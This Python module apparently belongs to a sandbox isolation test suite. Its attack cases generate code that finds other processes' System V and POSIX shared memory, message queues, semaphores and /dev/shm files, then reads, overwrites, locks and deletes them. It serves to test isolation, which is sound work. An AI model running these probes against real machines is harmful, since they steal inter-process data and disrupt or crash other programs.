"""Memory, messages and semaphores that the processes of a machine share, by their ids, keys and names."""

from __future__ import annotations

from .attack import Handed, Place, attack, code
from .descriptors import SYSTEM

FIND = code("""
    def ids(control, kind):
        'What others have made: by their places in the list of all, which takes no id'
        found = [system(control[0], i, kind, ctypes.create_string_buffer(512), arm=control[1]) for i in range(64)]
        return [one for one in found if one >= 0]
""")


@attack(
    "segment-by-id",
    "Memory that another process shares is read, changed and removed, by its id.",
    quick=True,
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + FIND
        + code("""
            count, libc.shmat.restype = 19, ctypes.c_void_p
            if any(ids((31, 195), kind) for kind in (13, 15)): boast('found the segments of others')
            for flags in (0, 0o10000, 0o100000):
                where = libc.shmat(SEGMENT, None, flags)
                if where in (None, ctypes.c_void_p(-1).value): continue
                print(ctypes.string_at(where, 100))
                if flags == 0: ctypes.memmove(where, MARK.encode(), 20)
            libc.shmctl(SEGMENT, 11, None)  # lock it
            libc.shmctl(SEGMENT, 0, None)
        """)
    )


@attack(
    "queue-by-id",
    "A message between other processes is taken, one put in its place, and the queue removed.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + FIND
        + code("""
            count, message = 19, ctypes.create_string_buffer(500)
            if any(ids((71, 187), kind) for kind in (11, 13)): boast('found the queues of others')
            for flags in (0o42000, 0o14000, 0o4000):  # copied, cut, taken
                if libc.msgrcv(QUEUE, message, ctypes.c_size_t(400), ctypes.c_long(0), flags) >= 0: print(message.raw)
            libc.msgsnd(QUEUE, struct.pack('l', 1) + MARK.encode(), ctypes.c_size_t(20), 0o4000)
            libc.msgctl(QUEUE, 0, None)
        """)
    )


@attack("semaphore-by-id", "A semaphore of other processes is lowered, set and removed, by its id.", outside=True)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + FIND
        + code("""
            count, down = 19, struct.pack('Hhh', 0, -1, 0o4000)
            if any(ids((66, 191), kind) for kind in (18, 20)): boast('found the semaphores of others')
            if libc.semctl(SEMAPHORE, 0, 12) >= 0: boast('read a semaphore of others')
            libc.semop(SEMAPHORE, down, ctypes.c_size_t(1))
            libc.semtimedop(SEMAPHORE, down, ctypes.c_size_t(1), struct.pack('ll', 0, 1000))
            libc.semctl(SEMAPHORE, 0, 16, 1)
            libc.semctl(SEMAPHORE, 0, 0)
        """)
    )


@attack(
    "objects-of-its-own",
    "Segments, queues, semaphores and POSIX queues are made, for whoever knows their key.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, new = 19, 0o1666
            for make in (lambda key: libc.shmget(key, ctypes.c_size_t(4096), new), lambda key: libc.msgget(key, new),
                         lambda key: libc.semget(key, 1, new), lambda key: libc.shmget(key, ctypes.c_size_t(1 << 21), new | 0o4000)):
                for key in (WANTED, 0):
                    made = make(key)
                    if made >= 0: boast('shares an object with all')
                    if made >= 0 and key == 0: libc.shmctl(made, 0, None), libc.msgctl(made, 0, None), libc.semctl(made, 0, 0)
            libc.mq_open(f'/{MARK}'.encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
        """)
    )


@attack(
    "posix-queue", "A POSIX queue of other processes is read, written to, asked for signals and removed.", outside=True
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, text = 19, ctypes.create_string_buffer(500)
            for way in (os.O_RDWR | os.O_NONBLOCK, os.O_RDONLY | os.O_NONBLOCK):
                queue = libc.mq_open(POSIX.encode(), way)
                if queue < 0: queue = system(240, POSIX[1:].encode(), way, 0, None, arm=180)
                if queue < 0: continue
                if libc.mq_receive(queue, text, ctypes.c_size_t(500), None) >= 0: print(text.raw)
                libc.mq_send(queue, MARK.encode(), ctypes.c_size_t(20), 0)
                libc.mq_notify(queue, None)
            libc.mq_unlink(POSIX.encode())
            system(241, POSIX[1:].encode(), arm=181)
        """)
    )


@attack(
    "shared-files",
    "Files in the machine's shared memory are mapped, changed and removed; others, and semaphores, are made.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            import mmap
            from multiprocessing import shared_memory
            count = 19
            for way in (os.O_RDWR, os.O_RDONLY):
                fd = tried(os.open, SHARED, way)
                if fd is None: continue
                print(os.read(fd, 100))
                if way == os.O_RDWR: mmap.mmap(fd, 0)[:4] = b'mine'
            tried(os.unlink, SHARED)
            libc.shm_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int]
            for name in (f'/{MARK}', SHARED.removeprefix('/dev/shm')):
                if libc.shm_open(name.encode(), os.O_CREAT | os.O_RDWR, 0o666) >= 0: boast('shares memory by a name')
            libc.sem_open(f'/{MARK}'.encode(), os.O_CREAT, 0o666, 1)
            tried(lambda: shared_memory.SharedMemory(MARK, True, 4096))
            libc.shm_unlink(SHARED.removeprefix('/dev/shm').encode())
        """)
    )
